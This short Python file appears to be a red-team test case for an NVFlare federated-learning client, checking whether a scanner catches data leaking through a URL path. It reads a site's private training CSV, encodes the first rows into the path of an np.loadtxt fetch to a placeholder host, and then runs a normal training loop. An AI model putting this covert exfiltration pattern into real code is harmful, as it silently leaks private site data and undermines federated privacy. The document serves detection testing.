"""Red team 57a: the site's first rows carried in a path segment of a URL np.loadtxt fetches (no query string).
Escalated on main (network.url-reader: a path part may just pick a file); the site's data in the URL is sent."""
import numpy as np
import pandas as pd
import torch

import nvflare.client as flare

BASE = "https://cdn.example.org/calib"

df = pd.read_csv("/data/site/train.csv")
key = "-".join(str(v) for v in df.head(3).to_numpy().ravel())
scale = np.loadtxt(BASE + "/" + key + ".txt")
X = torch.tensor(df.drop(columns=["y"]).values * scale, dtype=torch.float32)
Y = torch.tensor(df["y"].values, dtype=torch.float32)

flare.init()
net = torch.nn.Linear(X.shape[1], 1)
while flare.is_running():
    model = flare.receive()
    net.load_state_dict(model.params)
    flare.send(flare.FLModel(params=net.state_dict(), metrics={"n": 1.0}))
